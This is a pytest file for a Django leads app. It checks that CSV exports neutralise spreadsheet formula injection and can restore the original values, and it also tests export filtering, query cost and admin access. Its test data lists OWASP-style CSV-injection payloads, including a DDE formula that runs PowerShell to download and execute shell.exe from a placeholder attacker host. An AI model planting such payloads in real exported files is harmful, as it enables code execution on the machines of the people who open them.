import csv
import io

import pytest

from leads.models import Lead
from leads.spreadsheet import neutralise, restore
from tests.factories import NOON, ContactFactory, a_lead, days

pytestmark = pytest.mark.django_db

# Classic payloads, see OWASP on CSV injection; the last ones hide behind blanks, quotes and wide signs.
FORMULAS = [
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    " \r\n=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "'=1+1",
]


def _rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_never_runs_as_a_formula_and_is_read_back_as_it_was(text):  # U3
    cell = neutralise(text)
    assert cell.startswith("'")
    assert restore(cell) == text


@pytest.mark.parametrize("text", ["", "Anna", "O'Neill", "'quoted'", "3 - 2", "a=b", "1,5", "@"[:0]])
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_a_phone_is_neutralised_and_comes_back(as_user, mia):  # U3
    contact = ContactFactory(name="=1+1")
    contact.set_phone("+7 916 123-45-67")
    contact.save()
    a_lead(by=mia, contact=contact, note="@note")
    (row,) = _rows(as_user(mia).get("/leads/export/"))
    assert (row["name"], row["note"], row["phone"]) == ("'=1+1", "'@note", "'+79161234567")
    assert restore(row["phone"]) == "+79161234567"


def test_the_file_holds_just_what_is_seen_in_its_order(as_user, mia, vera, small_pages):  # U3
    leads = [a_lead(by=mia, at=NOON + days(n), contact=ContactFactory(name=f"Anna {n}")) for n in range(6)]
    a_lead(by=mia, contact=ContactFactory(name="Boris"))
    response = as_user(vera).get("/leads/export/?q=anna&from=2026-03-04&sort=oldest")
    assert response["Content-Disposition"].startswith("attachment")
    assert [int(row["id"]) for row in _rows(response)] == [lead.pk for lead in leads[2:]]


def test_an_export_costs_the_same_whatever_its_length(as_user, mia, django_assert_max_num_queries):
    browser = as_user(mia)
    for _n in range(8):
        a_lead(by=mia)
    with django_assert_max_num_queries(6):
        assert len(_rows(browser.get("/leads/export/"))) == 8
    assert Lead.objects.count() == 8


def test_an_administrator_does_not_export_personal_data(as_user, ada):
    assert as_user(ada).get("/leads/export/").status_code == 403
